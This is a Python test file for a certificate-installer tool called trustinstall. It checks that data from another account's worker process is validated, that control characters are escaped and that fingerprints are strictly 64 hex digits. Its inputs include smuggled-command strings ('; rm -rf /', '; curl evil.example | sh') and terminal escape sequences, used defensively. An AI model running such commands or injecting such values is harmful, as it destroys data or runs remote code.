"""What another account's process answers is believed to be text and numbers, and nothing else."""

from __future__ import annotations

import copy
import itertools
import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trustinstall.engine.outcome import Outcome, Planned, Result
from trustinstall.errors import TrustInstallError
from trustinstall.host import Account, ActingHost
from trustinstall.installer import wire
from trustinstall.installer.result import Report, ScopeResult
from trustinstall.installer.situation import Situation
from trustinstall.installer.views import Anchor, Held, Listed, StoreView, View
from trustinstall.reporting import add, json_report, remove
from trustinstall.reporting.advice import advise
from trustinstall.reporting.errors import failures
from trustinstall.reporting.layout import Page
from trustinstall.reporting.listing import list_lines
from trustinstall.reporting.stores import stores_lines
from trustinstall.stores.store import Store, blocked, fed_by
from trustinstall.typed_json import is_array, is_object

HOST = ActingHost("linux", "/", {}, Account(0, 0, "root", "/root"))
EVIL = "\x1b]0;evil\x07\r\n\u202e\ud800\0"
SHA256 = "ab" * 32
OUTCOMES = (
    Outcome(
        Store(
            "certifi",
            "/home/bob/x",
            1001,
            "certifi:/home/bob/x",
            "requests",
            label="label",
            source=fed_by("/etc/x"),
            blocked=blocked("why"),
            system=True,
        ),
        Result.ADDED,
        "detail",
        "code",
        (SHA256,),
        (SHA256,),
        3,
        (Planned("change", "/x", ("+y",)),),
    ),
)
VIEW = View(
    (Listed("bob", SHA256, "CN=X", "X", "2030-01-01", "2026", "bob", (Held("a", "a", "trusted", entries=("/x",)),)),),
    (Anchor("a", SHA256, "CN=X", ours=True),),
    (StoreView("bob", "a", "certifi", "/a", "a", "requests", "", writable=True, anchors=3, ours=1, problem=""),),
    ("a note",),
)
leaves = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(),
    st.text(max_size=20),
    st.sampled_from([EVIL, SHA256, "added", "x" * 100_000, f"{SHA256}; rm -rf /"]),
)
anything = st.recursive(
    leaves, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4)
)


def inside(value: Any) -> list[Any]:  # noqa: ANN401  JSON
    """The keys or places in a JSON object or array; none in anything else."""
    if is_object(value):
        return sorted(value)
    return list(range(len(value))) if is_array(value) else []


@st.composite
def spoilt(draw: st.DrawFn, data: Any) -> bytes:  # noqa: ANN401  JSON
    """A good answer, in which a few places hold something else, or nothing."""
    data = copy.deepcopy(data)
    for _ in range(draw(st.integers(1, 3))):
        where = data
        while keys := inside(where):
            key = draw(st.sampled_from(keys))
            if not inside(where[key]) or draw(st.integers(0, 3)) == 0:
                if draw(st.booleans()):
                    del where[key]
                else:
                    where[key] = draw(anything)
                break
            where = where[key]
    return json.dumps(data).encode()


def good_outcomes() -> Any:  # noqa: ANN401  JSON
    """What a worker answers to add."""
    return json.loads(wire.encode(OUTCOMES))


def good_view() -> Any:  # noqa: ANN401  JSON
    """What a worker answers to list."""
    return json.loads(wire.encode(VIEW))


def show_outcomes(data: bytes) -> str:
    """Everything that is printed of a worker's outcomes; "" where they are refused."""
    try:
        outcomes = wire.received(tuple[Outcome, ...], data)
    except TrustInstallError:
        return ""
    situation = Situation("sudo", frozenset(), machine=True, own=False, accounts=(), uncovered=0, may_ask=False)
    shown: list[str] = []
    for command in ("add", "remove"):
        report = Report(command, situation, (), (ScopeResult("bob", outcomes),))
        advice = advise(report, HOST, ())
        for one in advice.foreign:
            assert one.argv[-2] == "--sha256", one
            assert len(one.argv[-1]) == 64
        lines = add.result_lines if command == "add" else remove.result_lines
        for verbose, dry_run in itertools.product((True, False), repeat=2):
            shown += lines(Page(), replace(report, dry_run=dry_run), advice, verbose=verbose)
        shown += failures(Page(), report)
        json.loads(json_report.change(HOST, report, None, report.exit_code(strict=True), advice))
    return "\n".join(shown)


def show_view(data: bytes) -> str:
    """Everything that is printed of a worker's view; "" where it is refused."""
    try:
        view = VIEW + wire.received(View, data)
    except TrustInstallError:
        return ""
    json.loads(json_report.listing(HOST, view))
    json.loads(json_report.stores(HOST, view))
    assert {one.store for one in view.stores} | {one.store for one in view.anchors}  # the installer compares them
    listed = list_lines(Page(), view, "trustinstall", today="2026-11-29", detail="files", every_anchor=True)
    return "\n".join(
        [*listed, *(line for every in (True, False) for line in stores_lines(Page(), view, verbose=every))]
    )


@given(st.one_of(spoilt(good_outcomes()), st.binary(max_size=60), anything.map(lambda one: json.dumps(one).encode())))
def test_outcomes_are_never_worse_than_refused(data: bytes) -> None:
    """For any answer: outcomes that can be printed, or one error; no other exception and no control character."""
    assert show_outcomes(data).replace("\n", "").isprintable()


@given(st.one_of(spoilt(good_view()), st.binary(max_size=60), anything.map(lambda one: json.dumps(one).encode())))
def test_views_are_never_worse_than_refused(data: bytes) -> None:
    """The same for list and stores."""
    assert show_view(data).replace("\n", "").isprintable()


@pytest.mark.parametrize("show", [show_outcomes, show_view])
@pytest.mark.parametrize(
    "data",
    [b"", b"null", b"{}", b"[1]", b"[[]]", b"\xff\xfe", b"[" * 200_000, b"9" * 5000, b'{"notes": 1e999}', b"NaN"],
    ids=["nothing", "null", "object", "number", "lists", "bytes", "deep", "long", "infinite", "nan"],
)
def test_nonsense_is_refused(show: Any, data: bytes) -> None:  # noqa: ANN401  one of the two above
    """One sentence, for each fault."""
    assert show(data) == ""


def test_what_is_good_is_believed() -> None:
    """The other direction: what a worker really sends arrives whole."""
    assert wire.received(tuple[Outcome, ...], wire.encode(OUTCOMES)) == OUTCOMES
    assert wire.received(View, wire.encode(VIEW)) == VIEW


def test_control_characters_are_escaped() -> None:
    """A store's path may hold anything; a terminal sees none of it."""
    data = good_outcomes()
    data[0]["store"]["location"] = data[0]["detail"] = data[0]["store"]["id"] = EVIL
    (found,) = wire.received(tuple[Outcome, ...], json.dumps(data).encode())
    assert found.detail == r"\x1b]0;evil\x07\x0d\x0a\u202e\ud800\x00"
    assert "\\x1b" in show_outcomes(json.dumps(data).encode())
    view = good_view()
    view["stores"][0]["problem"] = view["notes"][0] = view["certificates"][0]["name"] = EVIL
    assert "\\x1b" in show_view(json.dumps(view).encode())


@pytest.mark.parametrize("word", [f"{SHA256}; curl evil.example | sh", "ab", SHA256.upper(), "", EVIL])
def test_a_fingerprint_is_64_digits_or_the_answer_is_refused(word: str) -> None:
    """It ends up in a command that we tell an administrator to run."""
    for key in ("changed", "foreign"):
        data = good_outcomes()
        data[0][key] = [word]
        with pytest.raises(TrustInstallError):
            wire.received(tuple[Outcome, ...], json.dumps(data).encode())
